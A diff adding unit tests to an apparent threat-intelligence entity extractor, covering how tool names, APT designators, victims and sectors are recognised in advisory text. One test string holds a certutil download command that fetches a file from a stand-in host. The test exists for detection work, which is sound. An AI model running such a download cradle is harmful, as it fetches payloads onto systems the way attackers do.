@@ -115,6 +115,9 @@ static void test_utility(void **state)
                    CTIX_ENTITY_TOOL, "at"));
   assert_true(has("The script:\n\n```\n$ at 10:00 /tmp/run.sh\n```\n", CTIX_ENTITY_TOOL, "at"));
   assert_true(has("The script:\n\n```\ncmd /c at 10:00 run.bat\n```\n", CTIX_ENTITY_TOOL, "at"));
+  /* ... or followed by a switch inside a quoted command line. */
+  assert_true(has("The loader:\n\n```\npowershell -c \"certutil -urlcache -f http://a.example/x x\"\n```\n",
+                  CTIX_ENTITY_TOOL, "certutil"));
 }
 
 /* Tools ATT&CK does not list come from data/entity/tools.tsv: known, with
@@ -138,6 +141,18 @@ static void test_listed_tools(void **state)
   assert_true(has("The operators used Slack to stage the stolen files.", CTIX_ENTITY_TOOL, "Slack"));
   assert_false(has("The operators left some slack in the schedule.", CTIX_ENTITY_TOOL, "Slack"));
   assert_false(has("Analysts found Slack in the schedule.", CTIX_ENTITY_TOOL, "Slack"));
+  /* A name of ordinary words needs its capitals. */
+  assert_false(has("The malware prints a simple help message.", CTIX_ENTITY_TOOL, "SimpleHelp"));
+  assert_true(has("The actors installed Simple Help on the server.", CTIX_ENTITY_TOOL, "SimpleHelp"));
+  assert_true(has("They used Rockwell's Studio 5000 Logix Designer to load logic.", CTIX_ENTITY_TOOL,
+                  "Studio 5000"));
+  /* Introduced by a rule: the evidence names the table, not ATT&CK. */
+  l = run("The actors deployed the AnyDesk tool for access.", &doc);
+  e = find(l, CTIX_ENTITY_TOOL, "AnyDesk");
+  assert_non_null(e);
+  assert_null(strstr(e->evidence, "ATT&CK"));
+  ctix_entity_list_free(l);
+  ctix_document_free(doc);
   /* A name ATT&CK has stays ATT&CK's. */
   l = run("The actors used Rclone to copy the data.", &doc);
   e = find(l, CTIX_ENTITY_TOOL, "Rclone");
@@ -189,6 +204,9 @@ static void test_new_tool_names(void **state)
                    "Eviction Strategies"));
   assert_false(has("This advisory uses the MITRE ATT&CK Matrix for Enterprise framework, version 18.",
                    CTIX_ENTITY_TOOL, "Enterprise"));
+  /* ... which may still be part of a name. */
+  assert_true(has("Midnight Blizzard breached Hewlett Packard Enterprise in 2023.", CTIX_ENTITY_VICTIM,
+                  "Hewlett Packard Enterprise"));
   assert_false(has("This advisory uses the MITRE ATT&CK Matrix for Enterprise12 framework, version 19.",
                    CTIX_ENTITY_TOOL, "Enterprise12"));
   assert_false(has("| Mimikatz | Post-exploitation tool that dumps credentials. |", CTIX_ENTITY_TOOL,
@@ -237,6 +255,14 @@ static void test_new_names(void **state)
                   "* Frostpike – a dropper that starts the chain.\n"
                   "* Emberlane – the main implant.\n",
                   CTIX_ENTITY_MALWARE, "Emberlane"));
+}
+
+/* "APT" and a number is a tracking id, not a stop word with a footnote. */
+static void test_apt_designator(void **state)
+{
+  (void)state;
+  assert_true(has("The threat actor tracked as APT45 used a backdoor.", CTIX_ENTITY_GROUP, "APT45"));
+  assert_true(has("APT77 sent the lures.", CTIX_ENTITY_GROUP, "APT77"));
 }
 
 static void test_new_names_off(void **state)
@@ -294,6 +320,8 @@ static void test_kev(void **state)
 static void test_places_sectors(void **state)
 {
   (void)state;
+  /* A two-letter word that opens a trigger ("IT sector"). */
+  assert_true(has("The group targeted IT services providers in Germany.", CTIX_ENTITY_SECTOR, "technology"));
   ctix_document *doc = NULL;
   ctix_entity_list *l = run("The group targeted hospitals in Poland.\n\n"
                             "Banks across Europe published a report.\n\n"
@@ -340,9 +368,18 @@ static void test_victims(void **state)
   /* Titles are not read: "Actors Targeting Water and Wastewater Sector". */
   assert_false(has("See the alert Malicious Cyber Actors Targeting Acme Utilities from last year.",
                    CTIX_ENTITY_VICTIM, "Acme Utilities"));
-  /* A victim keeps its place name. */
+  /* A victim keeps its place, unless only generic words follow it. */
   assert_true(has("The heist targeted Bangladesh Bank and its SWIFT terminals.", CTIX_ENTITY_VICTIM,
                   "Bangladesh Bank"));
+  assert_true(has("The attack on British Airways exposed card data.", CTIX_ENTITY_VICTIM,
+                  "British Airways"));
+  assert_false(has("The actors breached Israeli Companies last year.", CTIX_ENTITY_VICTIM,
+                   "Israeli Companies"));
+  assert_false(has("The actors breached Israeli Companies last year.", CTIX_ENTITY_VICTIM, "Companies"));
+  /* Names that end in a word for systems are still organisations. */
+  assert_true(has("The gang claimed an attack on Lehigh Valley Health Network in February.",
+                  CTIX_ENTITY_VICTIM, "Lehigh Valley Health Network"));
+  assert_true(has("The breach at Thames Water disrupted billing.", CTIX_ENTITY_VICTIM, "Thames Water"));
   /* An apposition names a victim; "the company said" starts a new clause. */
   assert_true(has("Acme Dynamics, the Japanese chip maker, was hit.", CTIX_ENTITY_VICTIM, "Acme Dynamics"));
   assert_true(has("Acme Dynamics, a chip maker, was hit.", CTIX_ENTITY_VICTIM, "Acme Dynamics"));
@@ -377,7 +414,7 @@ int main(void)
       cmocka_unit_test(test_known_alias),    cmocka_unit_test(test_ambiguous_word),
       cmocka_unit_test(test_utility),        cmocka_unit_test(test_new_tool_names),
       cmocka_unit_test(test_listed_tools),   cmocka_unit_test(test_other_kb),
-      cmocka_unit_test(test_new_names),
+      cmocka_unit_test(test_new_names),      cmocka_unit_test(test_apt_designator),
       cmocka_unit_test(test_new_names_off),  cmocka_unit_test(test_kev),
       cmocka_unit_test(test_places_sectors), cmocka_unit_test(test_victims),
       cmocka_unit_test(test_vocabulary),
